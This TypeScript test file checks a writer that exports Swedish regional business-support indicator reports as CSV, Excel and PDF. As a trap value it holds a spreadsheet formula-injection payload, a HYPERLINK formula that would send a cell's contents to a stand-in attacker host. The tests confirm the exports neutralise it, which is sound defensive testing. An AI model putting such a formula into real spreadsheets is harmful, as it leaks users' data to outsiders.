import ExcelJS from 'exceljs';
import { writeIndicatorsReport } from './index';
import type { IndicatorsReport, SupportedCompanyRow } from './report-types';
import { CollectingWritable, companies, companyRow, RULES, sampleIndicators } from './test/fixtures';
import { parseCsv } from './test/read-csv';
import { hasPdftotext, parsePdfText, pdfPageCount, pdfToText } from './test/read-pdf';

const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")';

function rowsWithTraps(count: number) {
  return companies(count, (i): SupportedCompanyRow => {
    if (i === 2) return { ...companyRow(i), name: INJECTION };
    if (i === 3) return { ...companyRow(i), name: 'Drewno Łódź, "Śląsk" Sp. z o.o.' };
    return companyRow(i);
  });
}

/** How many numbers a report holds (its figures), counted independently of the renderers. */
function numbersIn(value: unknown): number {
  if (typeof value === 'number') return 1;
  if (typeof value !== 'object' || value === null) return 0;
  return Object.values(value).reduce((sum: number, child) => sum + numbersIn(child), 0);
}

async function render(format: 'csv' | 'xlsx' | 'pdf', report: IndicatorsReport, rows: AsyncIterable<SupportedCompanyRow>): Promise<Buffer> {
  const out = new CollectingWritable();
  await writeIndicatorsReport(out, format, report, rows);
  expect(out.writableFinished).toBe(true);
  return out.bytes;
}

describe('indicators report as CSV', () => {
  it('starts with a BOM, ends every line with CRLF and lists every figure with its rule, then the companies', async () => {
    const bytes = await render('csv', sampleIndicators(), rowsWithTraps(5));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.toString('utf8').slice(1));

    expect(rows[0]).toEqual(['Avsnitt', 'Nyckel', 'Indikator', 'Värde', 'Räkneregel']);
    const byKey = new Map(rows.filter((row) => row.length === 5).map((row) => [row[1], row]));
    expect(byKey.get('programme')?.[3]).toBe('Globac');
    expect(byKey.get('period.from')?.[3]).toBe('2026-01-01');
    expect(byKey.get('period.to')?.[3]).toBe('2026-12-31');
    expect(byKey.get('filters')?.[3]).toBe('Finansiär: Region Västerbotten (region-vasterbotten); Kommun: Skellefteå');
    expect(byKey.get('producedAt')?.[3]).toBe('2026-11-30 18:55:12 (Europe/Stockholm), 2026-11-30T17:55:12.345Z');
    expect(byKey.get('companiesSupported.total')).toEqual(['Stödda företag', 'companiesSupported.total', 'Antal företag', '141', RULES.companiesSupported]);
    expect(byKey.get('companiesSupported.byMunicipality.outside-county')?.slice(2, 4)).toEqual(['Per kommun: Utanför länet', '3']);
    expect(byKey.get('companiesSupported.byMunicipality.Åsele')?.[3]).toBe('2');
    expect(byKey.get('participations.hours')?.[3]).toBe('1536.5');
    expect(byKey.get('exporters.exportTurnoverSek.latest')?.[3]).toBe('158500000');
    expect(byKey.get('relationships.byPartnerCountry.PL')?.slice(2, 4)).toEqual(['Per partnerland: Polen', '4']);
    expect(byKey.get('exportRings.companies')?.[4]).toBe(RULES.exportRings);

    // Every number of the report is there once, after the 5 lines that say what the report covers.
    const figureRows = rows.slice(1, rows.findIndex((row) => row.length === 1 && row[0] === ''));
    expect(figureRows).toHaveLength(5 + numbersIn(sampleIndicators()));

    const blank = rows.findIndex((row) => row.length === 1 && row[0] === '');
    expect(rows[blank + 1]).toEqual(['Organisationsnummer', 'Namn', 'Storleksklass', 'Kommun', 'Aktivitetstyper', 'Företags-id']);
    const companyRows = rows.slice(blank + 2);
    expect(companyRows).toHaveLength(5);
    expect(companyRows[0]).toEqual(['556001-0001', 'Västerbottens Ädelfisk AB 1', 'small', 'Skellefteå', 'seminar', '00000000-0000-4000-8000-000000000001']);
    expect(companyRows[1][1]).toBe(`'${INJECTION}`);
    expect(companyRows[2][1]).toBe('Drewno Łódź, "Śląsk" Sp. z o.o.');
    expect(companyRows[2][4]).toBe('seminar, trip');
  });

  it('prints what the report gives, also figures and sections it does not know yet', async () => {
    const report = sampleIndicators() as IndicatorsReport & Record<string, unknown>;
    (report.companiesSupported as unknown as Record<string, unknown>).byTopic = { legal: 7 };
    report.newcomers = { total: 4, rule: 'Företag i programmet för första gången' };
    const rows = parseCsv((await render('csv', report, companies(0))).toString('utf8').slice(1));
    const byKey = new Map(rows.map((row) => [row[1], row]));
    expect(byKey.get('companiesSupported.byTopic.legal')?.slice(2, 4)).toEqual(['byTopic: legal', '7']);
    expect(byKey.get('newcomers.total')).toEqual(['newcomers', 'newcomers.total', 'total', '4', 'Företag i programmet för första gången']);
  });

  it('keeps the companies header when there are no companies', async () => {
    const text = (await render('csv', sampleIndicators(), companies(0))).toString('utf8');
    expect(text.endsWith('\r\n\r\nOrganisationsnummer,Namn,Storleksklass,Kommun,Aktivitetstyper,Företags-id\r\n')).toBe(true);
  });
});

describe('indicators report as Excel', () => {
  it('has a sheet of indicators and a sheet of companies, with numbers as numbers and names as plain text', async () => {
    const bytes = await render('xlsx', sampleIndicators(), rowsWithTraps(30));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);

    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Indikatorer', 'Företag']);
    expect(workbook.created.toISOString()).toBe('2026-11-30T17:55:12.000Z');
    expect(workbook.creator).toBe('Globac');

    const indicators = workbook.getWorksheet('Indikatorer')!;
    expect(indicators.getRow(1).values).toEqual([undefined, 'Avsnitt', 'Nyckel', 'Indikator', 'Värde', 'Räkneregel']);
    const byKey = new Map<string, ExcelJS.Row>();
    indicators.eachRow((row) => byKey.set(String(row.getCell(2).value), row));
    expect(byKey.get('companiesSupported.total')?.getCell(4).value).toBe(141);
    expect(byKey.get('companiesSupported.total')?.getCell(5).value).toBe(RULES.companiesSupported);
    expect(byKey.get('participations.hours')?.getCell(4).value).toBe(1536.5);
    expect(byKey.get('companiesSupported.byMunicipality.Åsele')?.getCell(3).value).toBe('Per kommun: Åsele');
    expect(byKey.get('period.from')?.getCell(4).value).toBe('2026-01-01');
    expect(indicators.rowCount).toBe(1 + 5 + numbersIn(sampleIndicators()));

    const sheet = workbook.getWorksheet('Företag')!;
    expect(sheet.getRow(1).values).toEqual([undefined, 'Organisationsnummer', 'Namn', 'Storleksklass', 'Kommun', 'Aktivitetstyper', 'Företags-id']);
    expect(sheet.rowCount).toBe(31);
    // Excel never runs a string cell: the name is kept exactly and is not a formula.
    const trap = sheet.getRow(3).getCell(2);
    expect(trap.type).toBe(ExcelJS.ValueType.String);
    expect(trap.value).toBe(INJECTION);
    expect(sheet.getRow(4).getCell(2).value).toBe('Drewno Łódź, "Śląsk" Sp. z o.o.');
    expect(sheet.getRow(31).getCell(6).value).toBe('00000000-0000-4000-8000-000000000030');
  });
});

describe('indicators report as PDF', () => {
  it('shows the programme, period, filters, every figure with its rule, when produced, and the companies over several pages', async () => {
    const bytes = await render('pdf', sampleIndicators(), rowsWithTraps(150));
    expect(bytes.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(bytes.subarray(-6).toString('latin1')).toMatch(/%%EOF\n?$/);

    const pages = pdfPageCount(bytes);
    expect(pages).toBeGreaterThanOrEqual(4);

    // Both readers where poppler is installed; the built-in one alone elsewhere.
    const texts = hasPdftotext() ? [pdfToText(bytes), parsePdfText(bytes)] : [parsePdfText(bytes)];
    for (const text of texts) {
      const flat = text.replace(/\s+/g, ' ');
      for (const expected of [
        'Globac',
        'Indikatorrapport',
        '2026-01-01 – 2026-12-31',
        'Finansiär: Region Västerbotten (region-vasterbotten); Kommun: Skellefteå',
        '2026-11-30 18:55:12 (Europe/Stockholm), 2026-11-30T17:55:12.345Z',
        'Stödda företag',
        'Utanför länet',
        'Exportringar och exportcirklar',
        '1 536,5',
        '158 500 000',
        'Åkesson Trä AB 5',
        'Umeå Wärme HB 149',
        'Åkesson Trä AB 150',
        // Letters outside the built-in fonts lose their accents, and the file says so.
        'Drewno Lódz, "Slask" Sp. z o.o.',
        'Bokstäver som PDF-typsnittet saknar',
      ]) {
        expect(flat).toContain(expected);
      }
      for (const rule of Object.values(RULES)) expect(flat).toContain(rule);
      // A long cell may wrap, and the readers then put a space at the break.
      expect(flat.replace(/ /g, '')).toContain(INJECTION.replace(/ /g, ''));
      // The table header is repeated on every page the companies reach.
      const headerCount = (text.match(/Org\.nr/g) ?? []).length;
      expect(headerCount).toBeGreaterThanOrEqual(pages - 1);
      expect(headerCount).toBeLessThanOrEqual(pages);
    }
  });
});
